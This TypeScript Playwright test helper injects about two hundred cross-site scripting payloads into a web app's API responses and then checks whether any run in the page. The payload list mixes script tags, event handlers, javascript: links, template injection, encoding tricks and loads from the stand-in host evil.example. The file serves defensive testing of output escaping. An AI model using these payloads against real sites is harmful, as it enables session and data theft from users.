import type { Page } from 'playwright-core';

// Texts that people and files can put into the record, as the server answers them, each a script, a form or a link that
// must not come alive. `hit` would leave a mark in the page, `evil.example` a request.

const VECTORS = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '"><script src=//evil.example/x.js></script>',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  'vbscript:hit()',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<a href="javascript:hit()">x</a>',
  '<math><mtext></table><mglyph><style><img src onerror=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/x.png)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example><form action=//evil.example><button>x</button></form>',
  '<object data=//evil.example></object><embed src=//evil.example>',
  '<!--<img src="--><img src=x onerror=hit()//">',
  '</title></textarea></style></script><script>hit()</script>',
];
const DISGUISES: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => vector.toUpperCase().replaceAll('HIT', 'hit'),
  (vector) => `x'" autofocus onfocus=hit() ${vector}`,
  (vector) => ` \t${vector.replaceAll('script', 'scr\tipt')}`,
  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&#x3e;'),
  (vector) => encodeURIComponent(vector),
  (vector) => `https://a.example/"onmouseover="hit()"${vector}`,
  (vector) => `\u202e${vector}\u202c`,
  (vector) => `${vector}${vector}`,
  (vector) => `x\n${vector}\n`,
  (vector) => `\u3000＜${vector}＞\u0001`.replace('\u0001', ''),
];
/** Two hundred of them. */
export const HOSTILE = DISGUISES.flatMap((disguise) => VECTORS.map(disguise));

/** Parts of a reply that are shown as they are; all else names things, and is not of people's wording. */
const SHOWN = /^(label|shortLabel|name|customerName|firstName|lastName|subject|who|palette|text|message)$/;
const IS_PLAIN = /^(-?\d[\d.eE+-]*|\d{4}-\d\d-\d\d.*|true|false|)$/;

/** Has the server's replies carry hostile texts wherever the record can hold a text. */
export async function speakHostile(page: Page): Promise<{ readonly carried: () => number }> {
  let next = 0;
  const hostile = () => HOSTILE[(next += 1) % HOSTILE.length]!;
  const inValues = (value: unknown): unknown => {
    if (typeof value === 'string') return IS_PLAIN.test(value) ? value : hostile();
    if (Array.isArray(value)) return value.map(inValues);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, inValues(each)]));
  };
  const spoilt = (json: unknown): unknown => {
    if (Array.isArray(json)) return json.map(spoilt);
    if (typeof json !== 'object' || json === null) return json;
    return Object.fromEntries(
      Object.entries(json).map(([key, value]) => {
        if (key === 'values' || key === 'categories') return [key, inValues(value)];
        if (key === 'levels' && typeof value === 'object' && !Array.isArray(value))
          return [key, inValues(value)];
        // A customer's own wording stands in the pack: the text itself stays, so that the test finds its way.
        if (key === 'texts')
          return [
            key,
            Object.fromEntries(
              Object.entries(value as Record<string, string>).map(([name, text]) => [
                name,
                `${text} ${hostile()}`,
              ]),
            ),
          ];
        if (typeof value === 'string' && SHOWN.test(key)) return [key, hostile()];
        return [key, spoilt(value)];
      }),
    );
  };
  await page.route(/\/(repository|studio)\/api\/v1\//, async (route) => {
    const response = await route.fetch();
    const isJson = response.headers()['content-type']?.includes('json') && response.ok();
    if (!isJson) return route.fulfill({ response });
    return route.fulfill({ response, json: spoilt(await response.json()) });
  });
  return { carried: () => next };
}

/** In the page: notes that a text came alive. */
export function watchForHits(): void {
  Object.assign(globalThis, { hit: () => Object.assign(globalThis, { wasHit: true }) });
}

/** What of the texts came alive in the page: a script that ran, an element or a link that no page of ours has. */
export function cameAlive(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const alive = 'wasHit' in globalThis ? ['a script ran'] : [];
    const foreign =
      'iframe, object, embed, base, meta[http-equiv], form[action], math, script:not([src^="/repository/assets/"])';
    for (const each of document.querySelectorAll(foreign)) alive.push(each.outerHTML.slice(0, 120));
    for (const each of document.querySelectorAll('*'))
      for (const { name } of each.attributes)
        if (name.startsWith('on')) alive.push(`${each.tagName} ${name}`);
    for (const { protocol, href } of document.querySelectorAll('a'))
      if (!/^(https?|mailto):$/.test(protocol)) alive.push(href);
    for (const each of document.querySelectorAll<HTMLAnchorElement>('a[target="_blank"]'))
      if (!/noopener/.test(each.rel) || !/noreferrer/.test(each.rel)) alive.push(`${each.href} ${each.rel}`);
    return alive;
  });
}
